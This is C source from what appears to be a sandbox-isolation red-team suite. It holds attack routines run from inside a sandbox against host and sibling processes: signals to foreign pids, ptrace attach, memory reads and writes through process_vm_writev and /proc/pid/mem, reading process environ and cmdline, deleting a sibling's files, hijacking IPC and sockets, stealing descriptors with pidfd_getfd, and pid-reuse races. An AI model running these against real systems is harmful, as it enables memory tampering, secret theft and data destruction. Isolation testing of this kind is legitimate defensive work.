/*
 * Family 3: the neighbour. The host says where it is on the host (process ids, an address in its memory),
 * which is more than a real attacker would know.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "redteam/attacks/inside.h"
#include "redteam/attacks/places.h"

enum { FOREIGN_MAX = 16, PID_SCAN = 40000 };

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_send_signal
#define SYS_pidfd_send_signal 424
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* The host's numbers of processes that are not ours: "pids 12,13,...". Numbers that one of our own processes
 * has in our namespace are left out. */
static size_t foreign(const struct order *o, pid_t *out)
{
    char text[512], *save = NULL;
    size_t n = 0;

    (void)snprintf(text, sizeof(text), "%s", order_text(o, "pids"));
    for (char *word = strtok_r(text, ",", &save); word && n < FOREIGN_MAX;
         word = strtok_r(NULL, ",", &save)) {
        char path[64];
        (void)snprintf(path, sizeof(path), "/proc/%s/status", word);
        if (access(path, F_OK) == 0 && getsid((pid_t)strtol(word, NULL, 10)) == getsid(0))
            continue;
        out[n++] = (pid_t)strtol(word, NULL, 10);
    }
    fact("foreign", "%zu", n);
    return n;
}

static void signals(const struct order *o)
{
    static const int sent[] = {0, SIGUSR1, SIGTERM, SIGCONT};
    pid_t pids[FOREIGN_MAX];
    size_t n = foreign(o, pids);
    unsigned hit = 0;
    union sigval v = {.sival_int = 1};

    errno = ESRCH;
    for (size_t i = 0; i < n; i++) {
        for (size_t s = 0; s < sizeof(sent) / sizeof(*sent); s++)
            hit += kill(pids[i], sent[s]) == 0;
        hit += sigqueue(pids[i], SIGUSR2, v) == 0;
        hit += syscall(SYS_tkill, pids[i], SIGUSR1) == 0;
        hit += syscall(SYS_tgkill, pids[i], pids[i], SIGUSR1) == 0;
        hit += kill(-pids[i], SIGUSR1) == 0;
    }
    stepf("kill", hit ? 0 : -1, "%zu processes of the host", n);
    if (hit)
        claim("%u signals were taken by processes of the host", hit);
}

static void traces(const struct order *o)
{
    pid_t pids[FOREIGN_MAX];
    size_t n = foreign(o, pids);
    unsigned long address = strtoul(order_text(o, "address"), NULL, 16);
    char buf[128];
    struct iovec local = {buf, sizeof(buf)}, remote = {(void *)(uintptr_t)address, sizeof(buf)};

    for (size_t i = 0; i < n; i++) {
        long rc = ptrace(PTRACE_SEIZE, pids[i], NULL, NULL);
        char path[64];
        int fd;
        step("seize", rc);
        if (rc == 0)
            claim("attached to process %d of the host", (int)pids[i]);
        rc = ptrace(PTRACE_ATTACH, pids[i], NULL, NULL);
        step("attach", rc);
        if (rc == 0)
            claim("attached to process %d of the host", (int)pids[i]);
        rc = syscall(SYS_process_vm_readv, pids[i], &local, 1, &remote, 1, 0);
        step("vm-read", rc);
        if (rc > 0)
            proof("vm-read", buf, (size_t)rc);
        memset(buf, 'x', sizeof(buf));
        rc = syscall(SYS_process_vm_writev, pids[i], &local, 1, &remote, 1, 0);
        step("vm-write", rc);
        if (rc > 0)
            claim("wrote into process %d of the host", (int)pids[i]);
        (void)snprintf(path, sizeof(path), "/proc/%d/mem", (int)pids[i]);
        fd = open(path, O_RDWR | O_CLOEXEC);
        step("mem", fd);
        if (fd >= 0 && (rc = pread(fd, buf, sizeof(buf), (off_t)address)) > 0)
            proof("mem", buf, (size_t)rc);
        (void)close(fd);
        step("kcmp", syscall(SYS_kcmp, getpid(), pids[i], 0, 1, 1));
    }
}

static void proc_entries(const struct order *o)
{
    static const char *const names[] = {"environ", "cmdline",   "maps", "status",
                                        "cgroup",  "mountinfo", "stack"};
    pid_t pids[FOREIGN_MAX];
    size_t n = foreign(o, pids), seen = 0;
    DIR *dir = opendir("/proc");
    const struct dirent *d;
    char path[96];

    while (dir && (d = readdir(dir)))
        seen += strspn(d->d_name, "0123456789") == strlen(d->d_name);
    if (dir)
        (void)closedir(dir);
    stepf("list", (long)seen, "%zu processes are listed", seen);
    fact("listed", "%zu", seen);
    for (size_t i = 0; i < n; i++) {
        for (size_t k = 0; k < sizeof(names) / sizeof(*names); k++) {
            (void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)pids[i], names[k]);
            if (try_read("read", path))
                claim("read %s of the host", path);
        }
        (void)snprintf(path, sizeof(path), "/proc/%d/root/workspace/" VICTIM_FILE, (int)pids[i]);
        (void)try_read("root", path);
        (void)snprintf(path, sizeof(path), "/proc/%d/cwd/" VICTIM_FILE, (int)pids[i]);
        (void)try_read("cwd", path);
    }
}

static void shared_files(const struct order *o)
{
    static const char *const paths[] = {"/dev/shm/" VICTIM_FILE, "/tmp/" VICTIM_FILE,
                                        "/workspace/" VICTIM_FILE, "/dev/mqueue" VICTIM_MQ,
                                        "/workspace/../" VICTIM_FILE};
    char name[32], path[256];

    for (size_t i = 0; i < sizeof(paths) / sizeof(*paths); i++) {
        (void)snprintf(name, sizeof(name), "file-%zu", i);
        if (try_read(name, paths[i]))
            claim("read %s", paths[i]);
        if (unlink(paths[i]) == 0)
            claim("removed %s", paths[i]);
    }
    (void)snprintf(path, sizeof(path), "%s/" VICTIM_FILE, order_text(o, "victim_workspace"));
    if (try_read("workspace", path))
        claim("read the sibling's workspace by its path on the host");
    (void)snprintf(path, sizeof(path), "/proc/1/root%s/" VICTIM_FILE, order_text(o, "victim_workspace"));
    if (try_read("workspace-root", path))
        claim("read the sibling's workspace through another root");
}

static void system_v(const struct order *o)
{
    struct {
        long type;
        char text[96];
    } m;
    struct shmid_ds ds;
    int id = shmget(VICTIM_KEY, 0, 0), seen = 0;
    const void *at;
    long n;

    (void)o;
    step("shmget", id);
    if (id >= 0)
        claim("found the sibling's shared memory by its key");
    for (int i = 0; i < 256; i++) {
        at = shmat(i, NULL, SHM_RDONLY);
        if (at == (void *)-1 && shmctl(i, SHM_STAT, &ds) < 0)
            continue;
        seen++;
        if (at != (void *)-1)
            proof("shm", at, 96);
    }
    stepf("shm-scan", seen, "%d segments", seen);
    if (seen)
        claim("%d shared memory segments that are not ours", seen);
    id = semget(VICTIM_KEY, 1, 0);
    step("semget", id);
    if (id >= 0 && semctl(id, 0, SETVAL, 0) == 0)
        claim("changed the sibling's semaphore");
    id = msgget(VICTIM_KEY, 0);
    step("msgget", id);
    for (int i = 0; i < 64; i++)
        if ((n = msgrcv(i, &m, sizeof(m.text), 0, IPC_NOWAIT)) > 0) {
            claim("took a message out of queue %d", i);
            proof("msg", m.text, (size_t)n);
        }
    (void)try_read("sysvipc", "/proc/sysvipc/shm");
}

static void posix_queues(const struct order *o)
{
    char buf[256];
    mqd_t q = mq_open(VICTIM_MQ, O_RDWR | O_NONBLOCK);
    ssize_t n;

    (void)o;
    step("mq-open", (long)q);
    if (q != (mqd_t)-1) {
        claim("opened the sibling's message queue");
        n = mq_receive(q, buf, sizeof(buf), NULL);
        if (n > 0)
            proof("mq", buf, (size_t)n);
        (void)mq_close(q);
    }
    step("mq-unlink", mq_unlink(VICTIM_MQ));
}

static void doors(const struct order *o)
{
    struct sockaddr_in in = {
        .sin_family = AF_INET, .sin_port = htons(VICTIM_PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    long rc = connect(fd, (struct sockaddr *)&in, sizeof(in));

    (void)o;
    step("tcp", rc);
    if (rc == 0)
        claim("connected to the sibling's TCP port");
    (void)close(fd);
    memcpy(un.sun_path + 1, VICTIM_ABSTRACT, sizeof(VICTIM_ABSTRACT) - 1);
    fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    rc = connect(fd, (struct sockaddr *)&un,
                 (socklen_t)(offsetof(struct sockaddr_un, sun_path) + sizeof(VICTIM_ABSTRACT)));
    step("abstract", rc);
    if (rc == 0)
        claim("connected to the sibling's abstract socket");
    (void)close(fd);
}

static void pidfds(const struct order *o)
{
    pid_t pids[FOREIGN_MAX];
    size_t n = foreign(o, pids);

    for (size_t i = 0; i < n; i++) {
        int fd = (int)syscall(SYS_pidfd_open, pids[i], 0);
        step("open", fd);
        if (fd < 0)
            continue;
        claim("opened process %d of the host", (int)pids[i]);
        step("signal", syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0));
        for (int k = 0; k < 32; k++) {
            int got = (int)syscall(SYS_pidfd_getfd, fd, k, 0);
            if (got >= 0)
                claim("took descriptor %d of process %d", k, (int)pids[i]);
        }
        (void)close(fd);
    }
}

/* Makes process ids go round as fast as it can and shoots at whatever number was free a moment ago: a host
 * that signals or inspects by number instead of by descriptor would hit, or show, the wrong process. */
static void pid_reuse(const struct order *o)
{
    uint64_t until = now_ms() + 800;
    unsigned long forks = 0;
    pid_t pids[FOREIGN_MAX], last = 0;
    size_t n = foreign(o, pids), hit = 0;

    while (now_ms() < until) {
        pid_t pid = fork();
        if (pid == 0)
            _exit(0);
        if (pid < 0)
            continue;
        forks++;
        (void)waitpid(pid, NULL, 0);
        last = pid;
        for (size_t i = 0; i < n; i++)
            hit += kill(pids[i], SIGUSR1) == 0;
    }
    stepf("cycle", (long)forks, "%lu processes, the last was %d", forks, (int)last);
    stepf("shoot", hit ? 0 : -1, "%zu hits", hit);
    if (hit)
        claim("%zu signals hit processes of the host", hit);
}

const struct inside_attack inside_siblings[] = {
    {"sibling.signal", signals},      {"sibling.trace", traces},
    {"sibling.proc", proc_entries},   {"sibling.files", shared_files},
    {"sibling.system-v", system_v},   {"sibling.posix-queues", posix_queues},
    {"sibling.sockets", doors},       {"sibling.pidfd", pidfds},
    {"sibling.pid-reuse", pid_reuse}, {NULL, NULL},
};
